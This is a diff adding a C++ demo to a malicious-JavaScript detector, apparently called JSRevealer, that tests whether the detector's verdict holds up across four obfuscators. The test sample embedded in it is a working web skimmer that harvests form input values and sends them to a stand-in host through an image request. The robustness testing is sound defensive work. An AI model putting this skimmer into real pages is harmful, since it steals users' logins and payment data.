@@ -1,0 +1,71 @@
+// Obfuscation robustness demo: obfuscate one malicious script with each of
+// the four obfuscator models and show that JSRevealer's verdict is stable
+// while the code's appearance changes completely.
+//
+//   $ ./examples/obfuscation_robustness
+#include <cstdio>
+#include <string>
+
+#include "core/jsrevealer.h"
+#include "dataset/generator.h"
+#include "obfuscators/obfuscator.h"
+#include "util/rng.h"
+
+int main() {
+  using namespace jsrev;
+
+  // Train a detector.
+  dataset::GeneratorConfig gen_cfg;
+  gen_cfg.seed = 2023;
+  gen_cfg.benign_count = 220;
+  gen_cfg.malicious_count = 220;
+  const dataset::Corpus corpus = dataset::generate_corpus(gen_cfg);
+  Rng rng(5);
+  const dataset::Split split = dataset::split_corpus(corpus, 160, 160, rng);
+  core::JsRevealer detector(core::Config{});
+  std::printf("training...\n");
+  detector.train(split.train);
+
+  // A web-skimmer-style payload.
+  const std::string skimmer = R"JS(
+    var stolen = [];
+    function harvest() {
+      var inputs = document.getElementsByTagName("input");
+      for (var i = 0; i < inputs.length; i++) {
+        if (inputs[i].value && inputs[i].value.length > 3) {
+          stolen.push(inputs[i].name + "=" + inputs[i].value);
+        }
+      }
+    }
+    function exfil() {
+      if (stolen.length === 0) { return; }
+      var img = new Image();
+      img.src = "//3f9a2c.example/c.gif?d=" +
+                encodeURIComponent(stolen.join("&"));
+      stolen = [];
+    }
+    document.addEventListener("change", harvest);
+    setInterval(exfil, 4000);
+  )JS";
+
+  std::printf("\noriginal skimmer -> %s\n",
+              detector.classify(skimmer) == 1 ? "MALICIOUS" : "benign");
+
+  for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
+    const auto obfuscator = obf::make_obfuscator(kind);
+    const std::string transformed = obfuscator->obfuscate(skimmer, 99);
+    const int verdict = detector.classify(transformed);
+    std::printf("\n--- %s (%zu bytes) -> %s ---\n",
+                obfuscator->name().c_str(), transformed.size(),
+                verdict == 1 ? "MALICIOUS" : "benign");
+    // Show the first couple of lines of the transformed code.
+    const std::size_t cut = transformed.find('\n', 160);
+    std::printf("%.*s...\n",
+                static_cast<int>(cut == std::string::npos
+                                     ? std::min<std::size_t>(200,
+                                                             transformed.size())
+                                     : cut),
+                transformed.c_str());
+  }
+  return 0;
+}
